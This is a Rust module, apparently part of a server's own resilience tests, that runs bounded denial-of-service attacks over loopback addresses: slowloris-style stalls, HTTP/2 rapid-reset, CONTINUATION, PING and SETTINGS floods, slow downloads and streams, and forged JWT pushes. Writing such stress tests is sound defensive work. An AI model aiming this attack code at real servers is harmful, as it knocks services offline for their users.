//! Attacks on a server's connections, bounded in number and time: peers that stall, and floods of HTTP/2 frames.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::OnceCell;
use tokio::task::JoinSet;

use crate::server::credential;

/// One kind of attack.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    /// How many connections attack at a time.
    connections: usize,
    /// How long an attacker rests before it connects again.
    rest: Duration,
    kind: Kind,
}

#[derive(Clone, Copy, Debug)]
enum Kind {
    /// Sends this, and then a byte now and then if there is one to send.
    Stall(fn() -> String, Option<&'static str>),
    /// Opens HTTP/2, sends this once, and then that so often.
    Flood(fn() -> Vec<u8>, fn(u32) -> Vec<u8>),
    /// Asks for a file that was uploaded once, and takes a few bytes of it now and then.
    Download,
    /// Opens HTTP/2, begins many uploads, and sends a byte of each now and then.
    Streams,
}

/// All of them.
pub const ATTACKS: [Attack; 12] = [
    stalling("slow header", || "GET / HTTP/1.1\r\nhost: a\r\nx: ".to_owned(), Some("y")),
    stalling("slow body", upload, Some("y")),
    stalling("silent", String::new, None),
    stalling("half preface", || "PRI * HTTP/2.0\r\n\r\nSM".to_owned(), None),
    flooding("rapid reset", Vec::new, rapid_reset),
    flooding("continuation", || frame(1, 1, 1, HEAD), |_| frame(9, 0, 1, b"\x00\x01x\x01y")),
    flooding("empty data", || frame(1, 4, 1, HEAD), |_| frame(0, 0, 1, b"")),
    flooding("ping", Vec::new, |_| frame(6, 0, 0, &[7; 8])),
    flooding("settings", Vec::new, |_| frame(4, 0, 0, &[0, 4, 0, 0, 255, 255])),
    Attack { name: "slow download", connections: 400, rest: Duration::from_secs(1), kind: Kind::Download },
    Attack { name: "slow streams", connections: 40, rest: Duration::from_secs(1), kind: Kind::Streams },
    flooding("unknown keys", Vec::new, unknown_key),
];

const fn stalling(name: &'static str, begin: fn() -> String, more: Option<&'static str>) -> Attack {
    Attack { name, connections: 400, rest: Duration::from_secs(1), kind: Kind::Stall(begin, more) }
}

const fn flooding(name: &'static str, begin: fn() -> Vec<u8>, each: fn(u32) -> Vec<u8>) -> Attack {
    Attack { name, connections: 16, rest: Duration::from_millis(200), kind: Kind::Flood(begin, each) }
}

/// How many frames a flood has at most, on one connection.
const FRAMES: u32 = 20_000;
/// How many go out at a time.
const BATCH: u32 = 200;
/// The pause of a peer that sends a byte now and then.
const TRICKLE: Duration = Duration::from_millis(500);
/// From how many addresses the attackers come.
const ADDRESSES: usize = 8;
/// `GET /`, with an authority, from HPACK's static table.
const HEAD: &[u8] = b"\x82\x86\x84\x41\x01a";

/// How many bytes the file has that is downloaded, all of them 0, and its digest.
const FILE: usize = 1 << 20;
const FILE_DIGEST: &str = "sha-256=:MOFJVevxNSJm3C/4Bn5oEEYH51CrudOzZYK4r5Cfy1g=:";
/// How many uploads one connection begins.
const STREAMS: u32 = 50;

/// A user's upload, which is read for as long as it goes on.
fn upload() -> String {
    let digest = "sha-256=:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=:";
    let credential = credential();
    format!(
        "POST /media HTTP/1.1\r\nhost: a\r\ncontent-length: 40000\r\ncontent-digest: {digest}\r\nauthorization: \
         {credential}\r\n\r\n"
    )
}

impl Attack {
    /// Begins; it ends when the set is dropped. `sent` counts frames of floods, and connections of peers that stall.
    pub fn begin(self, target: SocketAddr, sent: &Arc<AtomicU64>) -> JoinSet<()> {
        let mut attackers = JoinSet::new();
        let batches: Arc<[Vec<u8>]> = self.batches().into();
        let file = Arc::new(OnceCell::new());
        for number in 0..self.connections {
            let (sent, batches, file) = (Arc::clone(sent), Arc::clone(&batches), Arc::clone(&file));
            attackers.spawn(async move {
                loop {
                    if matches!(self.kind, Kind::Download) && uploaded(&file, target, &sent).await.is_err() {
                        return;
                    }
                    if let Ok(stream) = connect(number, target).await {
                        let _ = self.once(stream, &batches, file.get(), &sent).await;
                    }
                    tokio::time::sleep(self.rest).await;
                }
            });
        }
        attackers
    }

    /// The frames of a flood, made once.
    fn batches(self) -> Vec<Vec<u8>> {
        let Kind::Flood(_, each) = self.kind else { return Vec::new() };
        let batch = |batch: u32| (batch * BATCH..(batch + 1) * BATCH).flat_map(each).collect();
        (0..FRAMES / BATCH).map(batch).collect()
    }

    /// Attacks until the server has had enough.
    async fn once(
        self,
        mut stream: TcpStream,
        batches: &[Vec<u8>],
        file: Option<&String>,
        sent: &AtomicU64,
    ) -> std::io::Result<()> {
        match self.kind {
            Kind::Stall(begin, more) => {
                sent.fetch_add(1, Ordering::Relaxed);
                stream.write_all(begin().as_bytes()).await?;
                let mut piece = [0; 512];
                loop {
                    tokio::select! {
                        read = stream.read(&mut piece) => if read? == 0 { return Ok(()) },
                        () = tokio::time::sleep(TRICKLE) => {
                            if let Some(more) = more {
                                stream.write_all(more.as_bytes()).await?;
                            }
                        }
                    }
                }
            }
            Kind::Download => {
                sent.fetch_add(1, Ordering::Relaxed);
                let path = file.map_or("", String::as_str);
                stream.write_all(format!("GET /{path} HTTP/1.1\r\nhost: a\r\n\r\n").as_bytes()).await?;
                let mut piece = [0; 256];
                loop {
                    tokio::time::sleep(TRICKLE).await;
                    if stream.read(&mut piece).await? == 0 {
                        return Ok(());
                    }
                }
            }
            Kind::Streams => {
                sent.fetch_add(1, Ordering::Relaxed);
                stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
                let heads: Vec<u8> =
                    (0..STREAMS).flat_map(|number| frame(1, 4, 2 * number + 1, &begun())).collect();
                stream.write_all(&[frame(4, 0, 0, b""), heads].concat()).await?;
                let (mut reading, mut writing) = stream.split();
                let reader = async { tokio::io::copy(&mut reading, &mut tokio::io::sink()).await };
                let writer = async {
                    loop {
                        tokio::time::sleep(TRICKLE).await;
                        let data: Vec<u8> =
                            (0..STREAMS).flat_map(|number| frame(0, 0, 2 * number + 1, b"y")).collect();
                        writing.write_all(&data).await?;
                    }
                };
                tokio::select! {
                    read = reader => read.map(drop),
                    written = writer => written,
                }
            }
            Kind::Flood(begin, _) => {
                stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
                stream.write_all(&[frame(4, 0, 0, b""), begin()].concat()).await?;
                let (mut reading, mut writing) = stream.split();
                let reader = async { tokio::io::copy(&mut reading, &mut tokio::io::sink()).await };
                let writer = async {
                    for frames in batches {
                        writing.write_all(frames).await?;
                        sent.fetch_add(u64::from(BATCH), Ordering::Relaxed);
                    }
                    Ok::<_, std::io::Error>(())
                };
                tokio::try_join!(reader, writer).map(drop)
            }
        }
    }
}

/// Uploads the file, once for all; gives its name.
async fn uploaded(file: &OnceCell<String>, target: SocketAddr, sent: &AtomicU64) -> std::io::Result<()> {
    let upload = async {
        sent.fetch_add(1, Ordering::Relaxed);
        let mut stream = connect(0, target).await?;
        let head = format!(
            "POST /media HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-length: {FILE}\r\ncontent-digest: \
             {FILE_DIGEST}\r\nauthorization: {}\r\n\r\n",
            credential()
        );
        stream.write_all(head.as_bytes()).await?;
        stream.write_all(&vec![0; FILE]).await?;
        let mut answer = String::new();
        stream.read_to_string(&mut answer).await?;
        let name = answer.lines().find_map(|line| line.strip_prefix("location: ").map(str::to_owned));
        name.ok_or_else(|| std::io::Error::other(answer))
    };
    file.get_or_try_init(|| upload).await.map(drop)
}

/// The head of an upload in HTTP/2.
fn begun() -> Vec<u8> {
    let digest = "sha-256=:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=:";
    // POST and http from HPACK's static table.
    let mut head = b"\x83\x86".to_vec();
    literal(&mut head, ":path", "/media");
    literal(&mut head, ":authority", "a");
    literal(&mut head, "content-length", "40000");
    literal(&mut head, "content-digest", digest);
    literal(&mut head, "authorization", &credential());
    head
}

/// A push with a token of a key that nobody knows, each of another one.
fn unknown_key(number: u32) -> Vec<u8> {
    let header = URL_SAFE_NO_PAD.encode(format!(r#"{{"alg":"RS256","kid":"{number}"}}"#));
    let claims = URL_SAFE_NO_PAD.encode(r#"{"iss":"WHATSAPP"}"#);
    let signature = URL_SAFE_NO_PAD.encode([0; 256]);
    let mut head = b"\x83\x86".to_vec();
    literal(&mut head, ":path", "/push");
    literal(&mut head, ":authority", "a");
    literal(&mut head, "authorization", &format!("Bearer {header}.{claims}.{signature}"));
    frame(1, 5, 2 * number + 1, &head)
}

/// A field without an index and without Huffman's code (RFC 7541 §6.2.2).
fn literal(head: &mut Vec<u8>, name: &str, value: &str) {
    head.push(0);
    for text in [name, value] {
        // An integer with a prefix of 7 bits (§5.1).
        match u8::try_from(text.len()) {
            Ok(short @ 0..127) => head.push(short),
            _ => {
                head.push(127);
                let mut rest = text.len() - 127;
                while rest >= 128 {
                    head.push(u8::try_from(rest % 128).unwrap_or(0) | 128);
                    rest /= 128;
                }
                head.push(u8::try_from(rest).unwrap_or(0));
            }
        }
        head.extend(text.as_bytes());
    }
}

/// Connects from one of a few loopback addresses that are not the well-behaved clients'.
async fn connect(number: usize, target: SocketAddr) -> std::io::Result<TcpStream> {
    let last = u8::try_from(1 + number % ADDRESSES).unwrap_or(1);
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((Ipv4Addr::new(127, 0, 1, last), 0)))?;
    socket.connect(target).await
}

fn rapid_reset(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    [frame(1, 5, stream, HEAD), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
}

/// One HTTP/2 frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
